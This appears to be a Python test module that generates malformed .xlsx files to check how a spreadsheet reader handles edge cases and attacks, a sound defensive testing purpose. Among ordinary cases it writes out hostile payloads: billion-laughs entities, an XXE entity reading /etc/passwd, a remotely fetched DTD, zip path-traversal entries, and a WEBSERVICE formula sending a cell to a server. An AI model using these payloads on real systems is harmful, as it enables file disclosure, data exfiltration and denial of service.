"""Bad .xlsx files. Figures of other readers: calamine 0.9, openpyxl 3.1, 3 GiB."""

import io
import struct
import zipfile
import zlib

from tests.bad.registry import bad
from tests.sheets.making import (
    MAIN,
    OFFICE,
    PACKAGE,
    links,
    many_sheets,
    parts_of,
    xlsx,
    zipped,
)

ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
SHEET = "xl/worksheets/sheet1.xml"
LINKS = "xl/_rels/workbook.xml.rels"


def _at(cell: str, row: int | str) -> str:
    return f'{ONE}<row r="{row}"><c r="{cell}"><v>2</v></c></row>'


def _part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


# Places


@bad("xlsx")
def far_corner() -> bytes:
    """A value in the last corner of the sheet. calamine aborts the whole process,
    openpyxl takes 39 s and all memory."""
    return xlsx(_at("XFD1048576", 1048576))


@bad("xlsx")
def far_row() -> bytes:
    """A value in the last row of a narrow table: 1.1 GB for calamine."""
    return xlsx(_at("Z1048576", 1048576))


@bad("xlsx")
def far_column() -> bytes:
    """A value in the last column, in a table with few rows."""
    return xlsx(_at("XFD2", 2))


@bad("xlsx")
def row_9999999() -> bytes:
    """A row that no sheet has: 5.8 s and 1.2 GB for calamine."""
    return xlsx(_at("A9999999", 9999999))


@bad("xlsx")
def row_4294967295() -> bytes:
    """The largest number of 32 bits as a row. calamine aborts the whole process."""
    return xlsx(_at("A4294967295", 4294967295))


@bad("xlsx")
def row_0() -> bytes:
    """Rows are counted from 1."""
    return xlsx('<row r="0"><c r="A0"><v>1</v></c></row>')


@bad("xlsx")
def cell_in_another_row() -> bytes:
    """The cell says another row than the row around it: where does it stand?"""
    return xlsx('<row r="1"><c r="A2"><v>1</v></c></row>')


@bad("xlsx")
def cell_twice() -> bytes:
    """A person sees the one value, a program reads the other."""
    return xlsx('<row r="3"><c r="B3"><v>1</v></c><c r="B3"><v>2</v></c></row>')


@bad("xlsx")
def wrong_dimension() -> bytes:
    """The sheet claims to end at A1. openpyxl loses a row when it reads only."""
    rows = ONE + '<row r="2"><c r="A2"><v>2</v></c></row>'
    return xlsx(rows, before='<dimension ref="A1"/>')


# Size


def _stream_of(byte: bytes, size: int) -> bytes:
    """So many times one byte, as a part of a zip file is packed."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = byte * (1 << 20)
    packed = b"".join(pack.compress(piece) for _ in range(size >> 20))
    return packed + pack.flush()


@bad("xlsx")
def white_space() -> bytes:
    """400 MB of spaces behind the last row, 400 KB packed: 1 GB for every reader that
    believes the sheet."""
    parts = parts_of(ONE)
    sheet = str(parts[SHEET]).replace("</worksheet>", "")
    return zipped({**parts, SHEET: sheet + " " * 400_000_000})


@bad("xlsx")
def rows_without_end() -> bytes:
    """100,001 short rows. openpyxl takes 40 s for a million."""
    return xlsx("<row><c><v>1</v></c></row>" * 100_001)


@bad("xlsx")
def cells_without_end() -> bytes:
    """300,001 cells that have a style and no content."""
    row = "<row>" + '<c s="1"/>' * 1000 + "</row>"
    return xlsx(row * 300 + '<row><c s="1"/></row>')


@bad("xlsx")
def styled_blank_rows() -> bytes:
    """A million rows with a style and no content: 13 s and 755 MB for openpyxl."""
    return xlsx('<row s="1" customFormat="1"/>' * 1_000_000)


@bad("xlsx")
def hidden_rows() -> bytes:
    """Hidden rows without cells, in one part that 36 sheets share: a set of all of
    them would take 300 MB."""
    changes = {"xl/workbook.xml": many_sheets(36)}
    return xlsx('<row hidden="1"/>' * 99_999, changes)


@bad("xlsx")
def hidden_columns() -> bytes:
    """All 16,384 columns hidden, in one part that 200 sheets share: it is read."""
    before = '<cols><col min="2" max="16384" hidden="1"/></cols>'
    changes = {"xl/workbook.xml": many_sheets(200)}
    return xlsx("", changes, before=before)


@bad("xlsx")
def sheets_without_end() -> bytes:
    """201 names for one sheet."""
    return xlsx(ONE, {"xl/workbook.xml": many_sheets(201)})


@bad("xlsx")
def giant_shared_text() -> bytes:
    """A text of 40 MB among the shared ones: 200 MB take calamine 1 GB."""
    return xlsx(
        '<row><c t="s"><v>0</v></c></row>',
        strings=f"<si><t>{'a' * 40_000_000}</t></si>",
    )


@bad("xlsx")
def giant_text_in_a_cell() -> bytes:
    """32,768 characters: one more than Excel lets anybody type."""
    text = "a" * 32_768
    return xlsx(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>')


@bad("xlsx")
def texts_without_end() -> bytes:
    """300,001 empty shared texts."""
    return xlsx(ONE, strings="<si/>" * 300_001)


@bad("xlsx")
def parts_without_end() -> bytes:
    """5,001 files inside the zip file."""
    return xlsx(ONE, {f"a/{number}": "" for number in range(5001)})


@bad("xlsx")
def styles_without_end() -> bytes:
    """100,001 formats."""
    return xlsx(ONE, styles=f"<cellXfs>{'<xf/>' * 100_001}</cellXfs>")


@bad("xlsx")
def tags_without_end() -> bytes:
    """1.6 million elements that mean nothing."""
    return xlsx("<a/>" * 1_600_000)


# Merged ranges


@bad("xlsx")
def merge_of_all_cells() -> bytes:
    """One range over the whole sheet: openpyxl is killed. A1 is read as its corner."""
    return xlsx(ONE, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


@bad("xlsx")
def merge_wide() -> bytes:
    """One range of 5 million cells: openpyxl is killed."""
    return xlsx(ONE, after='<mergeCells><mergeCell ref="A1:Z200000"/></mergeCells>')


@bad("xlsx")
def merges_without_end() -> bytes:
    """20,001 merged ranges."""
    return xlsx(ONE, after='<mergeCell ref="A1:B1"/>' * 20_001)


@bad("xlsx")
def merges_in_shared_sheets() -> bytes:
    """Three tall ranges, in one part that 200 sheets share: looked up row by row they
    would take 4 GB."""
    rows = '<row r="99999"><c r="B99999"><v>1</v></c></row>'
    after = '<mergeCell ref="A1:A99999"/>' * 3
    return xlsx(rows, {"xl/workbook.xml": many_sheets(200)}, after=after)


@bad("xlsx")
def merge_of_nothing() -> bytes:
    """A range that is none."""
    return xlsx(ONE, after='<mergeCells><mergeCell ref="A:B"/></mergeCells>')


# XML

LAUGHS = '<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10)
)


def _with_dtd(dtd: str, part: str, text: str) -> bytes:
    content = xlsx(ONE, strings="<si><t>a</t></si>")
    old = _part(content, part).decode()
    changed = dtd + old.replace("<v>1</v>", f"<v>{text}</v>").replace("a</t>", text)
    return xlsx(ONE, {part: changed}, strings="<si/>")


@bad("xlsx")
def laughs_in_a_sheet() -> bytes:
    """Ten levels of entities, a billion words when they are resolved."""
    return _with_dtd(f"<!DOCTYPE worksheet [{LAUGHS}]>", SHEET, "&l9;")


@bad("xlsx")
def laughs_in_texts() -> bytes:
    """The same in the shared texts."""
    return _with_dtd(f"<!DOCTYPE sst [{LAUGHS}]>", "xl/sharedStrings.xml", "&l9;")


@bad("xlsx")
def entity_inside() -> bytes:
    """A small entity. openpyxl reads what it stands for, calamine fails."""
    return _with_dtd('<!DOCTYPE worksheet [<!ENTITY one "1">]>', SHEET, "&one;")


@bad("xlsx")
def entity_of_a_file() -> bytes:
    """An entity that would read a file of whoever opens it."""
    dtd = '<!DOCTYPE worksheet [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return _with_dtd(dtd, SHEET, "&f;")


@bad("xlsx")
def dtd_of_the_network() -> bytes:
    """A document type that would be fetched from a server."""
    return _with_dtd('<!DOCTYPE w SYSTEM "http://example.org/a.dtd">', SHEET, "1")


@bad("xlsx")
def entity_unknown() -> bytes:
    """An entity that nothing defines."""
    return xlsx(ONE.replace("1</v>", "&one;</v>"))


@bad("xlsx")
def encoding_unusual() -> bytes:
    """XML in UTF-7, for which Python would look among all its codecs."""
    return xlsx(ONE, {SHEET: '<?xml version="1.0" encoding="utf-7"?><worksheet/>'})


@bad("xlsx")
def encoding_wrong() -> bytes:
    """XML that says UTF-8 and holds a letter of Windows-1252."""
    text = '<row r="1"><c r="A1" t="inlineStr"><is><t>caf\xe9</t></is></c></row>'
    return xlsx(ONE, {SHEET: str(parts_of(text)[SHEET]).encode("cp1252")})


@bad("xlsx")
def control_character() -> bytes:
    """A character that XML does not allow. calamine hands it on."""
    return xlsx(ONE.replace("1</v>", "\x01</v>"))


@bad("xlsx")
def nested_deep() -> bytes:
    """100,000 elements inside one another."""
    return xlsx("<a>" * 100_000)


@bad("xlsx")
def names_without_end() -> bytes:
    """10,001 different names of elements: each is kept as long as a file is read."""
    return xlsx("".join(f"<a{number}/>" for number in range(10_001)))


@bad("xlsx")
def attribute_without_end() -> bytes:
    """An attribute with a name of 4 MB."""
    return xlsx(f"<row {'a' * 4_000_000}='1'/>")


@bad("xlsx")
def attributes_without_end() -> bytes:
    """A row with 400,000 attributes."""
    told = " ".join(f"a{number}=''" for number in range(400_000))
    return xlsx(f"<row {told}/>")


@bad("xlsx")
def xml_cut_short() -> bytes:
    """The sheet ends in the middle, the zip file does not."""
    return xlsx(ONE, {SHEET: str(parts_of(ONE)[SHEET])[:-20]})


@bad("xlsx")
def xml_of_something_else() -> bytes:
    """The part of the sheet is another kind of XML."""
    return xlsx(ONE, {SHEET: "<html><body><table/></body></html>"})


@bad("xlsx")
def text_in_a_text() -> bytes:
    """A value inside a value."""
    return xlsx('<row r="1"><c r="A1"><v><v>1</v></v></c></row>')


# Cells


@bad("xlsx")
def errors_of_formulas() -> bytes:
    """Errors are read as what they are: calamine takes them for blank cells."""
    cells = "".join(
        f'<c r="{column}1" t="e"><v>{text}</v></c>'
        for column, text in zip("ABCDE", ERRORS, strict=True)
    )
    return xlsx(f'<row r="1">{cells}<c r="F1" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>')


ERRORS = ("#REF!", "#N/A", "#VALUE!", "#NAME?", "#NUM!")


@bad("xlsx")
def formula_without_result() -> bytes:
    """As written by a program that does not calculate: its value is not known."""
    return xlsx('<row r="1"><c r="A1"><f>1+1</f></c><c r="B1"><f>A1</f><v/></c></row>')


@bad("xlsx")
def text_number_too_high() -> bytes:
    """A cell with a shared text that is not there: openpyxl raises IndexError."""
    return xlsx('<row r="1"><c r="A1" t="s"><v>7</v></c></row>', strings="<si/>")


@bad("xlsx")
def style_number_too_high() -> bytes:
    """A cell with a style that is not there: openpyxl raises IndexError."""
    return xlsx('<row r="1"><c r="A1" s="99"><v>1</v></c></row>', styles="<cellXfs/>")


@bad("xlsx")
def fill_broken() -> bytes:
    """A fill without a pattern: openpyxl raises TypeError. Only dates are read."""
    return xlsx(ONE, styles='<fills><fill><x/></fill></fills><cellXfs><xf fillId="7"/>')


@bad("xlsx")
def fill_unknown() -> bytes:
    """A fill of a kind that is not known: openpyxl raises TypeError."""
    return xlsx(ONE, styles="<fills><fill><x/></fill></fills><cellXfs><xf/></cellXfs>")


@bad("xlsx")
def validation_unknown() -> bytes:
    """A drop-down list of an unknown kind: openpyxl raises ValueError."""
    after = '<dataValidations><dataValidation type="new" sqref="A1"/></dataValidations>'
    return xlsx(ONE, after=after)


@bad("xlsx")
def numbers_that_are_none() -> bytes:
    """Not a number, infinity, one of 400 digits, one with letters."""
    values = ("nan", "1e999", "9" * 400, "1_000", "0x10", "١٢")
    cells = "".join(
        f'<c r="{column}1"><v>{value}</v></c>'
        for column, value in zip("ABCDEF", values, strict=True)
    )
    return xlsx(f'<row r="1">{cells}</row>')


@bad("xlsx")
def dates_that_are_none() -> bytes:
    """Days before the first and after the last that Excel knows stay numbers."""
    cells = "".join(
        f'<c r="{column}1" s="0"><v>{value}</v></c>'
        for column, value in zip("ABCDE", (-1, 0, 60, 2958466, 1e300), strict=True)
    )
    return xlsx(
        f'<row r="1">{cells}</row>', styles='<cellXfs><xf numFmtId="14"/></cellXfs>'
    )


@bad("xlsx")
def escaped_characters() -> bytes:
    """Excel's own escapes: a line end, a null character, half a letter."""
    text = "a_x000D_b_x0000_c_xD83D_"
    return xlsx(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>')


@bad("xlsx")
def answers_out_of_sight() -> bytes:
    """In a hidden row, a hidden column, and below a merged range."""
    rows = (
        '<row r="1" hidden="1"><c r="A1"><v>1</v></c></row>'
        '<row r="2"><c r="A2"><v>2</v></c><c r="B2"><v>3</v></c><c r="C2"><v>4</v></c>'
        '</row><row r="3"><c r="A3"><v>5</v></c></row>'
    )
    return xlsx(
        rows,
        before='<cols><col min="3" max="3" hidden="1"/></cols>',
        after='<mergeCells><mergeCell ref="A2:A3"/></mergeCells>',
    )


# Macros and links


@bad("xlsm")
def macros() -> bytes:
    """The values are read, the macros neither run nor kept."""
    return xlsx(ONE, {"xl/vbaProject.bin": b"code"})


@bad("xlsx")
def macros_renamed() -> bytes:
    """A workbook with macros that was renamed to .xlsx."""
    return xlsx(ONE, {"xl/vbaProject.bin": b"code"})


@bad("xlsx")
def macros_of_excel_4() -> bytes:
    """Macros in a sheet of their own kind, as old as 1992 and still run by Excel."""
    changes = {
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="Macro1" r:id="rId2" state="veryHidden"/>'
            '<sheet name="Answers" r:id="rId1"/></sheets></workbook>'
        ),
        LINKS: links(
            ("worksheet", "worksheets/sheet1.xml"), ("xlMacrosheet", "macro1.xml")
        ),
        "xl/macro1.xml": "<xm:macrosheet/>",
    }
    return xlsx(ONE, changes)


@bad("xlsx")
def link_to_another_workbook() -> bytes:
    """The value seen last is read; the other file is not opened."""
    changes = {
        LINKS: (
            f'<Relationships xmlns="{PACKAGE}">'
            f'<Relationship Id="rId1" Type="{OFFICE}/worksheet"'
            ' Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{OFFICE}/externalLink"'
            ' Target="file:///c:/other.xlsx" TargetMode="External"/></Relationships>'
        )
    }
    return xlsx('<row r="1"><c r="A1"><f>[1]A!B2</f><v>7</v></c></row>', changes)


@bad("xlsx")
def formula_of_the_network() -> bytes:
    """A formula that would send a cell to a server: its stored result is read."""
    formula = 'WEBSERVICE("http://example.org/?"&amp;B1)'
    return xlsx(f'<row r="1"><c r="A1" t="str"><f>{formula}</f><v>ok</v></c></row>')


# The zip file


@bad("xlsx")
def part_twice() -> bytes:
    """Two parts of one name: Excel may show the one and we read the other."""
    return _again(xlsx(ONE), "xl/worksheets/sheet1.xml")


@bad("xlsx")
def part_twice_in_capitals() -> bytes:
    """The same, but for small and capital letters, which Excel does not tell apart."""
    return _again(xlsx(ONE), "xl/Worksheets/Sheet1.xml")


def _again(content: bytes, name: str) -> bytes:
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a") as archive:
        # zipfile warns of a name that is there already, so it is set afterwards.
        entry = zipfile.ZipInfo("x" * len(name))
        archive.writestr(entry, str(parts_of(ONE.replace("1</v>", "2</v>"))[SHEET]))
    return stream.getvalue().replace(b"x" * len(name), name.encode())


@bad("xlsx")
def part_outside_its_folder() -> bytes:
    """A part that would be unpacked over another file."""
    return xlsx(ONE, {"../../evil.xml": "x"})


@bad("xlsx")
def part_with_an_absolute_name() -> bytes:
    """The same, with a name from the root of the disk."""
    return xlsx(ONE, {"/etc/passwd": "x"})


@bad("xlsx")
def link_outside_the_file() -> bytes:
    """A sheet that would be read from the disk: names are looked up inside only."""
    return xlsx(ONE, {LINKS: links(("worksheet", "../../../../../etc/passwd"))})


@bad("xlsx")
def link_to_itself() -> bytes:
    """The sheet is the workbook."""
    return xlsx(ONE, {LINKS: links(("worksheet", "workbook.xml"))})


@bad("xlsx")
def link_missing() -> bytes:
    """Nothing says which part is the workbook."""
    return xlsx(ONE, {"_rels/.rels": None})


@bad("xlsx")
def sheet_missing() -> bytes:
    """The workbook names a sheet that is not there."""
    return xlsx(ONE, {SHEET: None})


@bad("xlsx")
def sheet_twice() -> bytes:
    """Two sheets of one name."""
    entry = '<sheet name="Answers" r:id="rId1"/>'
    workbook = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{entry * 2}'
    return xlsx(ONE, {"xl/workbook.xml": f"{workbook}</sheets></workbook>"})


@bad("xlsx")
def no_sheet() -> bytes:
    """A workbook of one chart."""
    return xlsx(ONE, {LINKS: links(("chartsheet", "worksheets/sheet1.xml"))})


@bad("xlsx")
def checksum_wrong() -> bytes:
    """One digit changed on its way: calamine reads 3 where 1 was sent."""
    content = zipped(parts_of(ONE), stored=True)
    return content.replace(b"<v>1</v>", b"<v>3</v>")


@bad("xlsx")
def cut_short() -> bytes:
    """A download that stopped at half of the file."""
    content = xlsx(ONE)
    return content[: len(content) // 2]


@bad("xlsx")
def packed_part_cut_short() -> bytes:
    """The packed bytes of the sheet end too early, all else is in order."""
    content = zipped(parts_of(ONE + " " * 200))
    size = struct.pack("<L", len(str(parts_of(ONE + " " * 200)[SHEET])))
    at = content.index(SHEET.encode()) + len(SHEET) + 4
    assert size in content
    return content[:at] + b"\0" * 8 + content[at + 8 :]


def _central(content: bytes, name: str) -> int:
    """Where the entry of a part stands in the list at the end of a zip file."""
    return content.rindex(name.encode()) - 46


@bad("xlsx")
def size_understated() -> bytes:
    """The list claims that the sheet has 10 bytes."""
    content = bytearray(xlsx(ONE))
    struct.pack_into("<L", content, _central(bytes(content), SHEET) + 24, 10)
    return bytes(content)


@bad("xlsx")
def size_overstated() -> bytes:
    """The list claims that the sheet has 4 GB."""
    content = bytearray(xlsx(ONE))
    struct.pack_into("<L", content, _central(bytes(content), SHEET) + 24, 0xFFFF_FFFE)
    return bytes(content)


@bad("xlsx")
def size_in_64_bits() -> bytes:
    """The list says that the size follows in 64 bits, and nothing follows."""
    content = bytearray(xlsx(ONE))
    struct.pack_into("<2L", content, _central(bytes(content), SHEET) + 20, *ALL_ONES)
    return bytes(content)


ALL_ONES = (0xFFFF_FFFF, 0xFFFF_FFFF)


@bad("xlsx")
def size_of_18_exabytes() -> bytes:
    """The size follows in 64 bits, and is the largest there is."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, part in parts_of(ONE).items():
            entry = zipfile.ZipInfo(name)
            if name == SHEET:
                entry.extra = struct.pack("<2H2Q", 1, 16, 2**64 - 1, 2**64 - 1)
            archive.writestr(entry, part)
    content = bytearray(stream.getvalue())
    struct.pack_into("<2L", content, _central(bytes(content), SHEET) + 20, *ALL_ONES)
    return bytes(content)


@bad("xlsx")
def place_outside_the_file() -> bytes:
    """The list says that the sheet starts at 4 GB."""
    content = bytearray(xlsx(ONE))
    struct.pack_into("<L", content, _central(bytes(content), SHEET) + 42, 0xFFFF_FFF0)
    return bytes(content)


@bad("xlsx")
def entries_overstated() -> bytes:
    """The end of the list counts 65,535 parts."""
    content = bytearray(xlsx(ONE))
    struct.pack_into("<2H", content, len(content) - 14, 0xFFFF, 0xFFFF)
    return bytes(content)


@bad("xlsx")
def compression_unusual() -> bytes:
    """A part in bzip2, which no spreadsheet program writes."""
    stream = io.BytesIO(xlsx(ONE))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(zipfile.ZipInfo("extra.xml"), "x", zipfile.ZIP_BZIP2)
    return stream.getvalue()


@bad("xlsx")
def compression_unknown() -> bytes:
    """The sheet is packed in a way that does not exist."""
    content = bytearray(xlsx(ONE))
    struct.pack_into("<H", content, _central(bytes(content), SHEET) + 10, 77)
    return bytes(content)


@bad("xlsx")
def zip_with_a_password() -> bytes:
    """Every part of the zip file says that it needs a password."""
    content = bytearray(xlsx(ONE))
    for name in parts_of(ONE):
        content[_central(bytes(content), name) + 8] |= 1
    return bytes(content)


@bad("xlsx")
def zip_in_a_zip() -> bytes:
    """A workbook that was packed once more and renamed."""
    return zipped({"answers.xlsx": xlsx(ONE)})
